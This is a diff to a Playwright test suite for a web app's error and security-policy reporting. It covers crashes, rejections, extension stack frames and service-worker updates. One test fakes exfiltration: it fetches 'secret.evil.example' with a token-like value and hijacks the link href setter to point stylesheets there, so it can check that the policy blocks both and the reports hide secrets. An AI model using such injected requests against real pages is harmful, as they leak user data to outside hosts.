@@ -1,3 +1,5 @@
+import { readFile } from 'node:fs/promises';
+import path from 'node:path';
 import type { Page } from 'playwright-core';
 import * as assert from 'uvu/assert';
 import { buildElsewhere } from '../build/built-elsewhere';
@@ -6,6 +8,7 @@ import { until } from '../sandbox/until';
 import { REPORTS, takeReport } from '../serve/reports';
 import { staticHost } from '../serve/static-host';
 import { type SandboxStage, suiteAgainst } from './chromium';
+import { update } from './deployment-steps';
 import { hydrated } from './held-scripts';
 import { keepOnce } from './player-page';
 
@@ -13,15 +16,24 @@ const HOST = '127.0.0.75';
 const PORT = 8002;
 
 const received: string[] = [];
+/** What the host adds to each page. Then each request for the service worker gets that of another build. */
+let added = '';
+let builds = 0;
 
 const { test, run } = suiteAgainst('reports of what breaks', async () => {
   const REPORT_URL = `http://${HOST}:${PORT}${REPORTS}`;
   const { dist } = await buildElsewhere('reports', { PATH: process.env.PATH, REPORT_URL });
-  const site = staticHost(dist);
+  const site = staticHost(dist, (html) => html + added);
   const sandbox = await startSandbox({
     host: HOST,
     port: PORT,
-    serve: (req, res) => (req.url === REPORTS ? takeReport(req, res, (line) => received.push(line)) : site(req, res)),
+    async serve(req, res) {
+      if (req.url === REPORTS) return takeReport(req, res, (line) => received.push(line));
+      if (req.url !== '/service-worker.js' || !added) return site(req, res);
+      const worker = await readFile(path.join(dist, req.url), 'utf8');
+      const other = worker.replaceAll(/\b[\da-f]{16}\b/g, String(++builds).padStart(16, '0'));
+      res.writeHead(200, { 'content-type': 'text/javascript' }).end(other);
+    },
   });
   return { backend: sandbox, parts: { sandbox } };
 });
@@ -31,14 +43,19 @@ const SECRETS = ['secret', '7001', 'asha', 'refId'];
 const MESSAGE = 'a secret of asha (7001)';
 
 /** Runs a scene in a page of the demo player whose reports can be sent. Errors and violations don't fail the test. */
-async function visit({ browser, sandbox }: SandboxStage, path: string, scene: (page: Page) => Promise<void>) {
+async function visit(
+  { browser, sandbox }: SandboxStage,
+  address: string,
+  scene: (page: Page) => Promise<void>,
+  serviceWorkers: 'allow' | 'block' = 'block',
+) {
   received.length = 0;
-  const context = await browser.newContext({ baseURL: sandbox.origin, serviceWorkers: 'block' });
+  const context = await browser.newContext({ baseURL: sandbox.origin, serviceWorkers });
   const page = await context.newPage();
   page.setDefaultTimeout(30_000);
   try {
     await keepOnce(page, { authToken: sandbox.signIn('asha') });
-    await page.goto(`${path}?refId=secret`);
+    await page.goto(`${address}?refId=secret`);
     await page.waitForLoadState('networkidle');
     await hydrated(page);
     await scene(page);
@@ -81,26 +98,64 @@ test('a crash is reported once while its screen is shown', (stage) =>
     assert.is(received.length, 1);
   }));
 
+/** Throws what our own code could throw, and before it what an extension could: nothing of that is reported. */
+function throwFromOwnCode({ message, isRejection }: { message: string; isRejection: boolean }): void {
+  const fail = (at: string) => {
+    const error = new TypeError(message);
+    error.stack = `TypeError: ${message}\n    at run (${at}:1:2)`;
+    if (isRejection) void Promise.reject(error);
+    else setTimeout(() => Promise.reject(error).catch((thrown) => reportError(thrown)));
+  };
+  const start = () => {
+    for (let count = 0; count < 12; count++) fail(`chrome-extension://abc/content-${count}.js`);
+    fail(String(document.querySelector<HTMLScriptElement>('script[type=module]')?.src));
+  };
+  if (document.readyState === 'loading') addEventListener('DOMContentLoaded', start);
+  else setTimeout(start);
+}
+
 test('a rejection that nobody handles is reported, and so is an error before the code for it has loaded', (stage) =>
   visit(stage, '/login', async (page) => {
-    await page.evaluate((message) => void setTimeout(() => Promise.reject(new TypeError(message))), MESSAGE);
+    await page.evaluate(throwFromOwnCode, { message: MESSAGE, isRejection: true });
     await arrives('rejection', { error: 'TypeError', route: 'login' });
-    await page.addInitScript((message) => {
-      addEventListener('DOMContentLoaded', () =>
-        setTimeout(() => {
-          throw new Error(message);
-        }),
-      );
-    }, MESSAGE);
+    await page.addInitScript(throwFromOwnCode, { message: MESSAGE, isRejection: false });
     await page.reload();
-    await arrives('crash', { error: 'Error', route: 'login' });
+    await arrives('crash', { error: 'TypeError', route: 'login' });
   }));
 
 test('what the policy blocks is reported without its address', (stage) =>
   visit(stage, '/refer', async (page) => {
-    await page.evaluate(() => setTimeout(() => fetch('https://secret.evil.example/?t=7001').catch(() => {})));
-    await arrives('violation', { directive: 'connect-src', blocked: 'https', route: 'refer' });
+    await page.evaluate(() => {
+      setTimeout(() => fetch('https://another.evil.example/').catch(() => {}));
+      // Our own code adds the links of style sheets.
+      Object.defineProperty(HTMLLinkElement.prototype, 'href', {
+        set: function (this: HTMLLinkElement) {
+          this.setAttribute('href', 'https://secret.evil.example/?t=7001');
+        },
+      });
+    });
+    await page.getByRole('link', { name: 'Wallet', exact: true }).click();
+    const directive = 'style-src-elem';
+    assert.match(await arrives('violation', { directive, blocked: 'https', route: 'wallet' }), POSITIONS);
+    assert.not.match(received.join(), 'connect-src');
   }));
+
+test('a new build that can’t be kept, because a host changes the pages, is reported once', (stage) => {
+  const scene = async (page: Page) => {
+    await page.evaluate(() => navigator.serviceWorker.ready.then(() => {}));
+    added = '<!-- added on the way -->';
+    assert.is(await update(page), 'redundant');
+    await arrives('worker', { route: 'login' });
+    await page.getByRole('link', { name: 'Forgot password?' }).click();
+    await page.waitForURL('**/forgot-password');
+    assert.is(await update(page), 'redundant');
+    await page.waitForLoadState('networkidle');
+    assert.is(received.length, 1);
+  };
+  return visit(stage, '/login', scene, 'allow').finally(() => {
+    added = '';
+  });
+});
 
 test('code that couldn’t be loaded is reported', (stage) =>
   visit(stage, '/login', async (page) => {
